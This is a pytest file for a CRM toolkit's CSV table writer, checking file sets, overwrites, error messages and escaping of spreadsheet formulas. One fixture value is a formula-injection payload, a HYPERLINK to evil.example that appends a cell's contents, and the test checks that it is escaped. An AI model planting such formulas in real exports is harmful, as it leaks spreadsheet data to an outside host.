"""The tables as files: which, whole, and harmless to a spreadsheet."""

import csv
from datetime import UTC, datetime
from pathlib import Path

import pytest

from crmkit.metrics import NAMES, Scorecard, scorecard
from crmkit.model import Candidate, Interaction, Relationship
from crmkit.report import write_tables

NOW = datetime(2026, 3, 2, 9, tzinfo=UTC)
FORMULA = '=HYPERLINK("http://evil.example/"&A1)'


@pytest.fixture
def card() -> Scorecard:
    facts = [
        Interaction(candidate_id="ada", kind="sent", at="2026-01-05T09:00Z", touch=FORMULA),
        Interaction(candidate_id="ada", kind="replied", at="2026-01-06T09:00Z"),
    ]
    return scorecard([Relationship(Candidate(id="ada"), facts)], now=NOW)


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def test_writes_every_metric_and_every_table(card: Scorecard, tmp_path: Path) -> None:
    """One file of metrics, one of changes, one for each table, and nothing else."""
    folder = tmp_path / "new" / "tables"
    files = write_tables(card, folder, card.compare(card))
    names = ["metrics", "changes", *(table.name for table in card.tables)]
    assert files == tuple(folder / f"{name}.csv" for name in names)
    assert sorted(folder.iterdir()) == sorted(files)
    assert [row["name"] for row in rows(folder / "metrics.csv")] == list(NAMES)
    assert len(rows(folder / "changes.csv")) == len(NAMES)
    assert (folder / "metrics.csv").read_bytes().startswith(b"\xef\xbb\xbf")


def test_without_a_comparison_there_are_no_changes(card: Scorecard, tmp_path: Path) -> None:
    """What was not compared has no file."""
    assert "changes.csv" not in [each.name for each in write_tables(card, tmp_path)]


def test_no_spreadsheet_runs_what_is_written(card: Scorecard, tmp_path: Path) -> None:
    """A touch named as a formula is text."""
    write_tables(card, tmp_path)
    assert [row["touch"] for row in rows(tmp_path / "responses.csv")] == [f"'{FORMULA}"]


def test_files_are_replaced_and_others_left(card: Scorecard, tmp_path: Path) -> None:
    """Writing twice leaves the same; what else is in the folder stays."""
    (tmp_path / "mine.txt").write_text("mine")
    (tmp_path / "metrics.csv").write_text("old")
    first = {each: each.read_bytes() for each in write_tables(card, tmp_path)}
    assert {each: each.read_bytes() for each in write_tables(card, tmp_path)} == first
    assert (tmp_path / "mine.txt").read_text() == "mine"


def test_a_folder_or_file_in_the_way_is_told_by_its_name(card: Scorecard, tmp_path: Path) -> None:
    """The error names what cannot be made or written, and leaves no draft."""
    (tmp_path / "file").write_text("")
    with pytest.raises(OSError, match="cannot be made") as caught:
        write_tables(card, tmp_path / "file")
    assert caught.value.filename == str(tmp_path / "file")
    (tmp_path / "funnel.csv").mkdir()
    with pytest.raises(OSError, match="cannot be written") as caught:
        write_tables(card, tmp_path)
    assert caught.value.filename == str(tmp_path / "funnel.csv")
    assert not list(tmp_path.glob(".*"))
